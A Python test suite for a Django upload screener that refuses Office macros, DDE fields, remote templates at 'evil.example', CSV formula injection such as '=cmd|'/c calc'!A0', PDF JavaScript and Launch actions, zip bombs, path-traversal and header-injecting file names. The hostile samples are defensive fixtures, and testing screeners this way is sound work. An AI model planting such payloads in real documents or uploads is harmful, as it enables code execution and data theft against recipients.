"""What comes in at the door: every file is what its name says, and does nothing by itself."""

import hashlib
import io
import zipfile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import override
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from core import pdf_screening
from core.archives import Budget, Oversized, look_through
from core.errors import Refused
from core.uploads import LONGEST_NAME, clean_name, inspect, kept
from tests.core.nasty_files import action, bomb_pdf, bomb_png, link, office, pdf, referring, zipped
from tests.pictures import JPEG, picture

MB = 1024 * 1024


def brought(name: str, content: bytes, **options):
    return inspect(SimpleUploadedFile(name, content), max_bytes=20 * MB, **options)


def refusal(name: str, content: bytes, **options) -> str:
    with override("en"):
        with pytest.raises(Refused) as refused:
            brought(name, content, **options)
        return str(refused.value.message)


WORD = '<w:document xmlns:w="x"><w:r><w:instrText xml:space="preserve">{0}</w:instrText></w:r></w:document>'
SPLIT = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("D", "DE", "AUTO c:\\x"))


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.docx", office(word__vbaProject_dot_bin=b"x"), "macros"),
        ("a.docx", office(word__VBAPROJECT_dot_BIN=b"x"), "macros"),
        ("a.docx", office(types='<Override ContentType="application/vnd.ms-word.macroEnabled.main+xml"/>'), "macros"),
        ("a.xlsx", office("xlsx", xl__macrosheets__sheet1_dot_xml="<x/>"), "macros"),
        ("a.docx", office(word__activeX__activeX1_dot_xml="<x/>"), "embedded"),
        ("a.pptx", office("pptx", ppt__embeddings__oleObject1_dot_bin=b"x"), "embedded"),
        ("a.docx", office(word__embeddings__rahasia_dot_exe=b"MZ"), "embedded"),
        ("a.docx", office(word__media__foto_dot_png=zipped({"a": "b"})), "embedded"),
        ("a.docx", office(word__embeddings__a_dot_xlsx=office("xlsx", xl__vbaProject_dot_bin=b"x")), "macros"),
        ("a.docx", office(word__embeddings__a_dot_xlsx=b"no zip"), "embedded"),
        ("a.docx", referring("docx", "attachedTemplate", "http://evil.example/a.dotm"), "elsewhere"),
        ("a.docx", referring("docx", "attachedTemplate", "\\\\10.0.0.1\\a\\b.dotm"), "elsewhere"),
        ("a.docx", referring("docx", "attachedTemplate", "file://10.0.0.1/a/b.dotm"), "elsewhere"),
        ("a.docx", referring("docx", "image", "http://evil.example/a.png"), "elsewhere"),
        ("a.docx", referring("docx", "oleObject", "http://evil.example/a"), "elsewhere"),
        ("a.docx", referring("docx", "hyperlink", "javascript:alert(1)"), "elsewhere"),
        ("a.xlsx", referring("xlsx", "externalLinkPath", "other.xlsx"), "elsewhere"),
        ("a.xlsx", office("xlsx", xl__externalLinks__e_dot_xml="<e><ddeLink ddeService='cmd'/></e>"), "elsewhere"),
        ("a.docx", office(word__a_dot_xml=WORD.format("DDEAUTO c:\\x")), "elsewhere"),
        ("a.docx", zipped({"[Content_Types].xml": "<T/>", "word/document.xml": f"<d>{SPLIT}</d>"}), "elsewhere"),
        ("a.docx", office(word__a_dot_xml='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "damaged"),
        ("a.docx", office(word__a_dot_xml='<?xml version="1.0" encoding="UTF-16"?><x/>'.encode("utf-16")), "damaged"),
        ("a.docx", office(word__a_dot_xml='<?xml version="1.0" encoding="UTF-7"?><x/>'), "damaged"),
        ("a.docx", zipped({"[Content_Types].xml": "", "word/a": "", "../../a": ""}), "damaged"),
        ("a.docx", zipped({"[Content_Types].xml": "", "word/a": "", "C:\\a": ""}), "damaged"),
        ("a.docx", b"MZ" + office(), "damaged"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "not what its name says"),
        ("a.csv", b"<!DOCTYPE html><script>1</script>", "not what its name says"),
        ("a.txt", b"\xef\xbb\xbf  <html><body>", "not what its name says"),
        ("a.txt", b"<?xml version='1.0'?><svg/>", "not what its name says"),
        ("a.txt", b"{\\rtf1 abc}", "not what its name says"),
        ("a.csv", b"nama,nilai\na,=cmd|'/c calc'!A0\n", "not what its name says"),
        ("a.csv", b"nama\x00nilai", "not what its name says"),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "not accepted"),
        ("a.html", b"<html>", "not accepted"),
        ("a.zip", zipped({"a": "b"}), "not accepted"),
        ("a.doc", b"\xd0\xcf\x11\xe0", "old format"),
        ("a.docm", office(), "macros"),
        ("foto.jpg", picture("PNG"), "not what its name says"),
        ("foto.php", JPEG, "not accepted"),
    ],
)  # fmt: skip
def test_what_could_act_by_itself_is_refused(name, content, said):
    assert said in refusal(name, content)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", office()),
        ("a.docx", referring("docx", "hyperlink", "https://smartcity.example.go.id/")),
        ("a.docx", referring("docx", "attachedTemplate", "file:///C:\\Users\\Ani\\Templates\\Surat.dotx")),
        ("a.docx", referring("docx", "attachedTemplate", "Normal.dotm")),
        ("a.pptx", office("pptx", ppt__embeddings__Lembar1_dot_xlsx=office("xlsx"))),
        ("a.docx", zipped({"[Content_Types].xml": "<T/>", "word/document.xml": WORD.format("PAGE \\* MERGEFORMAT")})),
        ("a.xlsx", office("xlsx", xl__printerSettings__printerSettings1_dot_bin=b"\0" * 9)),
        ("a.csv", b"nama;nilai\nPuskesmas | A;-5\n"),
        ("a.csv", b"tumbuh,-3|5\nmin,=1+1\n"),
        ("catatan.txt", b"1 < 2 dan 3 > 2"),
    ],
)  # fmt: skip
def test_what_is_only_a_document_is_taken(name, content):
    assert brought(name, content).sha256 == hashlib.sha256(content).hexdigest()


def _script(document):
    document.Root.OpenAction = action("JavaScript", JS="app.alert(1)")


def _named_script(document):
    script = document.make_indirect(action("JavaScript", JS="1"))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script]))


def _attached(document):
    document.attachments["a.exe"] = b"MZ"


def _on_page(document):
    document.pages[0].AA = pikepdf.Dictionary(O=action("URI", URI="http://evil.example"))


def _form(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA="<x/>", Fields=[])


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize(
    "change",
    [
        _script,
        _named_script,
        _attached,
        _on_page,
        _form,
        lambda document: link(document, action("Launch", F="calc.exe")),
        lambda document: link(document, action("SubmitForm", F="http://evil.example")),
        lambda document: link(document, action("URI", URI="a", Next=action("JavaScript", JS="1"))),
        lambda document: setattr(document.Root, "OpenAction", action("URI", URI="http://evil.example")),
        lambda document: setattr(document.Root, "AA", pikepdf.Dictionary(WC=action("GoTo"))),
    ],
)
def test_a_pdf_that_does_something_by_itself_is_refused(change, packed):
    content = pdf(change, packed=packed)
    assert pdf_screening.screened_here(content) == "active"
    if not packed:
        assert "runs scripts" in refusal("a.pdf", content)


def test_packed_and_disguised_names_are_read_in_a_process_of_their_own():
    packed = pdf(_script, packed=True)
    assert pdf_screening.PACKED.search(packed)
    assert "runs scripts" in refusal("a.pdf", packed)
    disguised = b"%PDF-1.4\n1 0 obj<</OpenAction 2 0 R/S/J#61vaScript>>endobj stream"
    assert pdf_screening.PACKED.search(disguised)


@pytest.mark.parametrize(
    "change",
    [
        None,
        lambda document: link(document, action("URI", URI="https://smartcity.example.go.id")),
        lambda document: setattr(document.Root, "OpenAction", pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])),
        lambda document: setattr(document.Root, "OpenAction", action("GoTo", D=pikepdf.Array([0, pikepdf.Name.Fit]))),
    ],
)
def test_a_pdf_with_links_and_a_first_page_is_taken(change):
    assert brought("a.pdf", pdf(change)).content_type == "application/pdf"


def test_a_pdf_with_a_password_is_refused_but_not_one_that_only_forbids_printing():
    locked = pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    assert "password" in refusal("a.pdf", locked)
    assert brought("a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))).extension == "pdf"


def test_a_pdf_that_broke_off_is_called_damaged():
    assert "damaged" in refusal("a.pdf", b"%PDF-1.5\n1 0 obj<</Length 9>>stream\nabc")


def test_a_pdf_whose_tables_unpack_to_gigabytes_ends_in_a_process_of_its_own():
    content = bomb_pdf()
    assert len(content) < 100_000
    assert "damaged" in refusal("a.pdf", content)


@pytest.mark.parametrize(
    "parts",
    [
        {"word/bomb.xml": b"0" * (40 * MB)},
        {f"word/{number}.xml": b"" for number in range(3001)},
    ],
    ids=["ratio", "entries"],
)
def test_an_archive_that_unpacks_to_far_more_is_refused(parts):
    bomb = zipped({"[Content_Types].xml": "<T/>", "word/document.xml": "<d/>", **parts})
    assert "too large when unpacked" in refusal("a.docx", bomb)


def test_what_the_head_of_an_archive_promises_is_not_believed():
    """The sizes in the heads say 1 byte; what comes out is counted."""
    content = bytearray(zipped({"a": b"0" * MB}))
    with pytest.raises(Refused):
        look_through(io.BytesIO(bytes(content)), lambda name, piece: None, budget=Budget(left=1000))
    with pytest.raises(Oversized):
        look_through(io.BytesIO(zipped({"a": b"01" * 600})), lambda name, piece: None, budget=Budget(left=1000))


def test_twice_the_same_name_in_an_archive_is_refused():
    """Two programs would each see another of the two."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("a", "b")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("a", "b")
    with pytest.raises(Refused):
        look_through(made, lambda name, piece: None)


def photo(**options) -> bytes:
    """A photo that lies on its side, with place, time, owner, and a web page behind its end."""
    exif = Image.Exif()
    exif[0x0112], exif[0x013B] = 6, "Ani Rahasia"
    exif.get_ifd(0x8769)[0x9003] = "2026:03:04 05:06:07"
    exif.get_ifd(0x8825).update({1: "S", 2: (8.0, 30.0, 0.0), 3: "E", 4: (116.0, 15.0, 36.0)})
    return picture("JPEG", size=(40, 20), exif=exif, comment=b"<?php evil ?>", **options) + b"<script>evil</script>"


def test_a_photo_is_written_anew_and_only_its_pixels_survive():
    content = photo()
    upload = brought("foto.jpg", content)
    made = kept(SimpleUploadedFile("foto.jpg", content), upload)
    written = made.content.read()
    shown = Image.open(io.BytesIO(written))
    assert upload.sha256 == hashlib.sha256(content).hexdigest()
    assert made.sha256 == hashlib.sha256(written).hexdigest() != upload.sha256
    assert shown.size == (20, 40)
    assert not shown.getexif()
    assert not any(word in written for word in (b"evil", b"Rahasia", b"Exif"))
    assert (str(made.taken_at)[:19], [str(each) for each in made.place]) == (
        "2026-03-04 05:06:07",
        ["-8.5", "116.26"],
    )


def test_a_picture_keeps_its_quality_and_about_its_size():
    large = Image.effect_noise((300, 200), 60).convert("RGB")
    held = io.BytesIO()
    large.save(held, "JPEG", quality=70)
    content = held.getvalue()
    made = kept(SimpleUploadedFile("a.jpg", content), brought("a.jpg", content))
    again, before = Image.open(made.content), Image.open(io.BytesIO(content))
    assert abs(made.size - len(content)) < 0.02 * len(content)
    assert again.quantization == before.quantization


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_pictures_of_every_kind_keep_their_pixels(mode):
    held = io.BytesIO()
    drawn = Image.new(mode, (3, 2), 1)
    drawn.save(held, "PNG")
    content = held.getvalue()
    made = kept(SimpleUploadedFile("a.png", content), brought("a.png", content))
    assert (
        Image.open(made.content).convert("RGBA").tobytes() == Image.open(io.BytesIO(content)).convert("RGBA").tobytes()
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [("a.png", bomb_png()), ("a.jpg", JPEG[:200]), ("a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 50)],
)
def test_a_picture_that_cannot_be_shown_is_refused(name, content):
    file = SimpleUploadedFile(name, content)
    with pytest.raises(Refused):
        kept(file, brought(name, content))


def test_a_door_may_take_fewer_kinds():
    assert "not accepted" in refusal("a.pdf", pdf(), kinds=("jpg", "png"))


@given(st.text(max_size=300))
@settings(max_examples=300, deadline=None)
def test_a_cleaned_name_is_safe_whatever_it_was(name):
    found = clean_name(name)
    assert found
    assert len(found) <= LONGEST_NAME
    assert not any(each in found for each in '/\\:*?"<>|\x00\n\r\u202e\u200b\ufeff')
    assert found not in (".", "..")
    assert not found.startswith((" ", "."))
    assert clean_name(found) == found or len(found) == LONGEST_NAME


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("laporan\u202efdp.exe", "laporanfdp.exe"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("CON.pdf", "_CON.pdf"),
        ("foto\r\nX-Evil: 1.jpg", "fotoX-Evil_ 1.jpg"),
        ("e\u0301.pdf", "\u00e9.pdf"),
        ("", "file"),
    ],
)
def test_names_that_deceive_are_cleaned(name, clean):
    assert clean_name(name) == clean


def test_every_refusal_has_an_indonesian_text():
    with pytest.raises(Refused) as refused:
        brought("a.docx", office(word__vbaProject_dot_bin=b"x"))
    with override("id"):
        assert "makro" in str(refused.value.message)
